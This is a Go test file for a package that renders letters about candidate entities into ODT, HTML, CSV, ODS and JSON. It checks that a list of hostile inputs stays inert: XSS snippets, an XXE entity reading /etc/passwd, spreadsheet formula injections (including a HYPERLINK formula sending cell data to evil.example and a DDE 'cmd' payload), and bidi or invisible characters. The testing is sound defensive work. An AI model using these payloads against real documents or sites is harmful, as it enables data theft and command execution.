package letter_test

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"schemer"
	"schemer/letter"

	"golang.org/x/net/html"
)

// poisons are strings that have hurt programs of this sort. MARK shows that the rest of the string came through.
var poisons = []string{
	"<script>alert(1)</script>MARK", `"><img src=x onerror=alert(1)>MARK`, "</text:p><text:a xlink:href=\"http://evil.example/\">MARK</text:a>",
	"]]><!--MARK", "&#x0;&amp;&lt;MARK", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;MARK", "</style><script>MARK",
	"{{.Draft}}{{template \"x\"}}MARK", "MARK\x00\x01\x08\x0b\x0c\x1f\x7f\u0085\u009f", "\ufffe\uffffMARK\U0001fffe", "\xff\xfe\xc0\x80MARK\xed\xa0\x80",
	"\u202egnp.exeMARK\u202c", "\u2066MARK\u2069\u200f\u061c", "\u200bMARK\u200b\u00ad\u200d\ufeff", "MARK\U000e0041\U000e0042", "\u3164MARK\u115f", "MARK\ufe0f",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"MARK\")", "+cmd|' /C calc'!A0MARK", "-2+3+MARK", "@SUM(1+1)*MARK", "\t=1+1MARK", "\r=1+1MARK", "\n=1+1MARK",
	"\x00=1+1MARK", "＝1+1MARK", "＋1MARK", "－1MARK", "＠MARK", "\ufeff=1+1MARK", "\u200b=1+1MARK", "MARK;=1+1", "MARK\",\"=1+1", "MARK\n=1+1,=2",
	"## MARK", "- MARK\n- more", "javascript:alert('MARK')", "data:text/html,<b>MARK", "http://evil.example/MARK?a=<b>&c=\"d\"", "HTTPS://EVIL.example:8080/MARK",
	"file:///etc/MARK", "//evil.example/MARK", "MARK" + strings.Repeat("\u0301", 500), strings.Repeat("MARK ", 4000), " \u00a0\u2003MARK\u2028\u2029",
}

// poisoned is the sample letter with the same poison in every text that a page can reach.
func poisoned(p string) letter.Letter {
	l := sample()
	l.Edition.Candidates = slices.Clone(l.Edition.Candidates[:2])
	for i := range l.Edition.Candidates {
		c := &l.Edition.Candidates[i]
		c.Name, c.SeatClaim, c.NexusProof, c.Registered, c.Nexus, c.Change = p, p, p, p, "claimed", p
		c.Aliases, c.Domains, c.Handles = []string{p}, []string{p}, []string{"telegram:" + p, p, p + ":" + p}
		c.Crimes, c.Prefixes = []string{p}, []string{p}
		c.Related = []schemer.Related{{Name: p, Relation: p, Why: p}}
		e := schemer.Evidence{URL: p, Quote: p, Context: p, Author: p, Site: p, Lang: p, Speaker: schemer.Speaker(p), Grade: "open", SHA256: schemer.Digest(p), WARC: p, Admiralty: p}
		c.Evidence, c.Contra = []schemer.Evidence{e}, []schemer.Evidence{e}
	}
	last := edition()
	last.Edition, last.Candidates[0].Name, last.Candidates[0].Domains, last.Candidates[0].ID = p, p+"x", []string{"x." + p}, "r-gone"
	l.Previous = &last
	line := strings.ReplaceAll(p, "\n", " ") // line breaks divide an address
	l.Recipient, l.Reference, l.Sender, l.Contact, l.Edition.Edition = line, p, line, p, p
	return l
}

func TestHostileStringsStayText(t *testing.T) {
	elements := shape(t, page(t, poisoned("MARK")))
	xmlElements := strings.Count(parts(t, odt(t, poisoned("MARK")))["content.xml"], "<")
	for _, p := range poisons {
		l := poisoned(p)
		files := parts(t, odt(t, l))
		content := files["content.xml"]
		if strings.Contains(content, "xlink") && strings.Contains(content, "<text:a") || strings.Count(content, "<") != xmlElements {
			t.Errorf("%q: the poison makes elements in the ODT", p)
		}
		for name, text := range map[string]string{"content.xml": content, "styles.xml": files["styles.xml"], "meta.xml": files["meta.xml"], "HTML": page(t, l), "list": list(t, l.Edition)} {
			if !strings.Contains(text, "MARK") {
				t.Errorf("%q: nothing of it is left in %s", p, name)
			}
			visible(t, p, name, text)
		}
		if got := shape(t, page(t, l)); got != elements {
			t.Errorf("%q: the poison changes the page's elements from %s to %s", p, elements, got)
		}
	}
}

// visible fails when a document holds characters that turn or hide text, or that XML forbids.
func visible(t *testing.T, poison, name, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%q: %s is not UTF-8", poison, name)
	}
	for _, r := range text {
		if r != '\n' && r != '\t' && (unicode.Is(unicode.Cf, r) || unicode.IsControl(r) || r == 0xfffe || r == 0xffff) {
			t.Errorf("%q: %s holds U+%04X", poison, name, r)
			return
		}
	}
}

// shape lists the elements and attribute names of a page, and fails on whatever could act.
func shape(t *testing.T, markup string) string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(markup))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		b.WriteString(n.Data + " ")
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "href" || a.Key == "src" || n.Data == "script" {
				t.Errorf("the page can act: <%s %s>", n.Data, a.Key)
			}
			if a.Key != "lang" {
				b.WriteString(a.Key + " ")
			}
		}
	}
	return string(schemer.DigestOf([]byte(b.String()))[:12])
}

func TestSpreadsheetsCalculateNothing(t *testing.T) {
	for _, p := range poisons {
		text, all := rows(t, poisoned(p).Edition)
		if strings.ContainsAny(text, "\x00\x01\x0b\u202e\u200b") {
			t.Errorf("%q: control characters in the CSV", p)
		}
		for _, row := range all[1:] {
			if len(row) != len(all[0]) {
				t.Errorf("%q: a row of %d cells", p, len(row))
			}
			for i, cell := range row {
				if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠﹢﹣﹦﹫|%", first) && cell != "" {
					t.Errorf("%q: column %s starts with %q", p, all[0][i], first)
				}
			}
		}
	}
}

func TestTheODSHoldsTheRowsOfTheCSVAsText(t *testing.T) {
	for _, p := range append([]string{"plain"}, poisons...) {
		e := poisoned(p).Edition
		var buf bytes.Buffer
		if err := letter.ODS(&buf, e); err != nil {
			t.Fatal(err)
		}
		content := parts(t, buf.Bytes())["content.xml"]
		visible(t, p, "content.xml", content)
		_, all := rows(t, e)
		if got := strings.Count(content, `office:value-type="string"`); got != len(all)*len(all[0]) || strings.Contains(content, "table:formula") {
			t.Errorf("%q: %d text cells, want %d and no formula", p, got, len(all)*len(all[0]))
		}
	}
}

func TestOneIdentifierARow(t *testing.T) {
	_, all := rows(t, edition())
	var got []string
	for _, row := range all[1:] {
		got = append(got, row[3]+" "+row[4]+" "+row[5])
	}
	want := []string{
		"Zilt Haven name Zilt Haven", "Zilt Haven alias ZiltHaven", "Zilt Haven alias Соль", "Zilt Haven domain zilthaven.example",
		"Zilt Haven telegram zilt_sales", "Zilt Haven jabber desk@xmpp.example", "Zilt Haven asn AS64500", "Zilt Haven prefix 198.51.100.0/27",
		"Stille Kade name Stille Kade", "Stille Kade domain stillekade.example", "Stille Kade domain stillekade.test",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestJSONCarriesHostileStringsWhole(t *testing.T) {
	for _, p := range poisons {
		var buf bytes.Buffer
		e := poisoned(p).Edition
		if err := letter.JSON(&buf, e); err != nil {
			t.Fatal(err)
		}
		var back schemer.Edition
		if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		if got := back.Candidates[0].Evidence[0].Quote; utf8.ValidString(p) && got != p {
			t.Errorf("%q came back as %q", p, got)
		}
	}
}

func FuzzODT(f *testing.F) {
	for _, p := range poisons {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, p string) {
		files := parts(t, odt(t, poisoned(p)))
		visible(t, p, "content.xml", files["content.xml"])
		for _, row := range func() [][]string { _, all := rows(t, poisoned(p).Edition); return all }() {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
					t.Errorf("%q: cell %q", p, cell)
				}
			}
		}
	})
}
